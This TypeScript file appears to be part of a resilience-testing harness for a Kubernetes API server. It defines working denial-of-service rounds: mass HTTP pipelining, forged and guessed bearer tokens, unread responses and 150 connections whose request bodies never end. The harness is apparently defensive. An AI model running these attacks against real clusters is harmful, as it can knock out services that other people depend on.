import { once } from 'node:events';
import type { TLSSocket } from 'node:tls';
import type { Attack } from './attack';
import { BIG, BOOTSTRAP_TOKEN_ID, WIDE } from './stored';
import type { Victim } from './victim';

const UNFINISHED = 150;
const UNFINISHED_BYTES = 3 * 1024 * 1024;
const UNREAD_CONNECTIONS = 4;
const UNREAD_TIMES = 2_500;

/** Of the length of a token, but unsigned. */
export const MADE_UP_TOKEN = `Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6ImEifQ.${Buffer.from(
  JSON.stringify({ iss: 'https://kubernetes.default.svc', sub: 'a'.repeat(150) }),
).toString('base64url')}.${'a'.repeat(86)}`;

/** A guessed token with a known name. */
export const GUESSED_TOKEN = `Bearer ${BOOTSTRAP_TOKEN_ID}.0123456789abcdef`;

/** Many concurrent requests of one connection, unread responses, and bodies that never end. */
export const PIPELINING: readonly Attack[] = [
  inOneGo('20,000 × GET /livez', 20_000, head('/livez')),
  inOneGo('5,000 × GET /healthz', 5_000, head('/healthz')),
  inOneGo('5,000 × GET /livez/ping', 5_000, head('/livez/ping')),
  inOneGo('5,000 × GET /readyz?verbose', 5_000, head('/readyz?verbose')),
  inOneGo('20,000 × GET /api/v1/pods', 20_000, head('/api/v1/pods')),
  inOneGo('5,000 × a made-up token', 5_000, head('/api/v1/pods', [`Authorization: ${MADE_UP_TOKEN}`])),
  inOneGo(
    '5,000 × a guessed bootstrap token',
    5_000,
    head('/api/v1/pods', [`Authorization: ${GUESSED_TOKEN}`]),
  ),
  {
    name: 'F1: 20 × GET of 60,000 keys as YAML in one go',
    round: async (victim, signal) => {
      const text = head(WIDE, [`Authorization: ${victim.authorization}`, 'Accept: application/yaml']);
      return pipeline(victim, { times: 20, text }, signal);
    },
  },
  {
    name: 'F1: 2,500 × GET of 1 MB on each of 4 connections, never read',
    round: async (victim, signal) => {
      const text = head(BIG, [`Authorization: ${victim.authorization}`]);
      const sockets = Array.from({ length: UNREAD_CONNECTIONS }, () => victim.connect().pause());
      for (const socket of sockets) socket.write(text.repeat(UNREAD_TIMES));
      await untilAll(sockets, signal);
    },
  },
  {
    name: 'F1: 150 bodies of 3 MB that do not end',
    round: async (victim, signal) => {
      const text = head(
        '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
        [
          `Authorization: ${victim.authorization}`,
          'Content-Type: application/json',
          `Content-Length: ${String(UNFINISHED_BYTES)}`,
        ],
        'POST',
      );
      const body = Buffer.alloc(UNFINISHED_BYTES - 1, ' ');
      const sockets = Array.from({ length: UNFINISHED }, () => victim.connect());
      for (const socket of sockets) {
        countAnswers(socket, victim);
        socket.write(text);
        socket.write(body);
      }
      await untilAll(sockets, signal);
    },
  },
];

function inOneGo(what: string, times: number, text: string): Attack {
  return {
    name: `F1: ${what} in one go, without credentials`,
    round: async (victim, signal) => pipeline(victim, { times, text }, signal),
  };
}

function head(path: string, lines: readonly string[] = [], method = 'GET'): string {
  return [`${method} ${path} HTTP/1.1`, 'Host: x', ...lines, '', ''].join('\r\n');
}

/** Sends the requests in one write; resolves when all are answered or the connection is closed. */
async function pipeline(
  victim: Victim,
  { times, text }: { readonly times: number; readonly text: string },
  signal: AbortSignal,
): Promise<void> {
  const socket = victim.connect();
  let left = times;
  const all = new Promise<void>((resolve) => {
    countAnswers(socket, victim, () => {
      left -= 1;
      if (left === 0) resolve();
    });
  });
  socket.write(text.repeat(times));
  await Promise.race([all, untilAll([socket], signal)]);
  socket.destroy();
}

const STATUS_LINE = /HTTP\/1\.1 (\d{3}) /g;
const STATUS_LINE_CHARS = 'HTTP/1.1 200 '.length;

function countAnswers(socket: TLSSocket, victim: Victim, counted: () => void = () => undefined): void {
  let rest = '';
  socket.setEncoding('latin1');
  socket.on('data', (text: string) => {
    const all = rest + text;
    for (const [, code] of all.matchAll(STATUS_LINE)) {
      victim.count(Number(code));
      counted();
    }
    // An incomplete answer is found with the following data.
    rest = all.slice(Math.max(all.lastIndexOf('HTTP/1.1 ') + 1, all.length - STATUS_LINE_CHARS + 1));
  });
}

/** Resolves when all are closed, or closes them when the signal aborts. */
async function untilAll(sockets: readonly TLSSocket[], signal: AbortSignal): Promise<void> {
  const over = Promise.all(
    sockets.map(async (socket) => (socket.destroyed ? undefined : once(socket, 'close'))),
  );
  const aborted = signal.aborted ? undefined : once(signal, 'abort');
  await Promise.race([over, aborted]);
  for (const socket of sockets) socket.destroy();
}
